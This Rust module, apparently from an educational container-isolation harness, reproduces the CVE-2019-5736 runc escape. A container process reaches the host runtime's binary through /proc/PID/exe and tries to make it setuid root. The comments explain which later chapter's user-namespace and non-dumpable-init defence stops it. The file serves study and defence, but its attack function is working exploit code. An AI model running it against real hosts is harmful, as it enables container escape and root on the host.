//! The runtime's own program, through /proc/PID/exe: CVE-2019-5736.
//!
//! /proc/PID/exe leads to the program that a process runs, even if no path does: that of a runtime is a file
//! of the host. In runc before 1.0-rc7 a container could make runc, as it entered, run once more as a
//! program of the container, open /proc/PID/exe and, the moment runc had ended, write to it. The next time
//! the host's root started runc, it started the attacker. While it runs a program can't be written to
//! (ETXTBSY), but its permissions can be changed: a runtime that is setuid root is worth as much.
//!
//! From chapter 2 to 6 no process in sight runs the runtime's program: the first one has become the command
//! before anything of the container runs. Chapter 7 brings one back: its init is the runtime's own program,
//! as process 1.
//!
//! Chapter 8 stops it. init is not dumpable (prctl(2)), so only root of the user namespace in which the
//! program was started may follow /proc/1/exe; in a user namespace of its own the container's root is not.
//! That is why an ordinary user's container can't do it today, and why the real root in chapter 7 still can.
//! (runc runs from a copy of itself that is sealed or read-only: see libcontainer/dmz. Docker's init is
//! another program, mounted read-only.)

use std::fs::{File, Permissions};
use std::os::unix::fs::{MetadataExt, PermissionsExt};

use crate::arena::{self, Arena};
use crate::inside::{At, Inside, Stopped};
use crate::{Attack, End};

pub const ATTACK: Attack = Attack {
    name: "runtime-exe",
    title: "the runtime's own program, through /proc/PID/exe (CVE-2019-5736)",
    won: "changed the runtime's program on the host",
    harmless: "",
    end: End::Chapter(8),
    because: "in a user namespace the container's root may not look into init, and does not own the program",
    prepare: arena::nothing,
    attack,
    judge: |arena: &mut Arena, _| {
        let program = arena.path("bin").join(arena.program());
        std::fs::metadata(program).is_ok_and(|found| found.mode() & 0o7777 != 0o755)
    },
};

fn attack(me: &Inside) -> Result<String, Stopped> {
    me.need_proc()?;
    let own = std::fs::metadata("/proc/self/exe").at("stat(/proc/self/exe)")?;
    // Whoever started this: the runtime in chapter 1, init in chapter 7. In between nobody that it can see.
    let parent = nix::unistd::getppid();
    let program = format!("/proc/{parent}/exe");
    let found = std::fs::metadata(&program).at("stat(/proc/PID/exe)")?;
    if (found.dev(), found.ino()) == (own.dev(), own.ino()) {
        return Err(Stopped::nothing("no process runs the runtime's program"));
    }
    // It runs, so that this is refused; but not because permission is missing.
    let _ = File::options().write(true).open(&program);
    let setuid = Permissions::from_mode(0o4755);
    std::fs::set_permissions(&program, setuid).at("chmod(/proc/PID/exe)").map(|()| String::new())
}
